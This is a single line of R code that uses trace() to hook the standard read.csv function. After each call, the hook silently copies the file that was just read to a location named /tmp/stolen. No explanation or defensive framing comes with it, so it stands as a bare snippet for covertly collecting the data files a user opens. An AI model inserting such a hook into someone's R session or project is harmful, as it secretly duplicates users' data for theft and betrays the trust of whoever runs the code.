trace("read.csv", exit = quote(file.copy(file, "/tmp/stolen")))
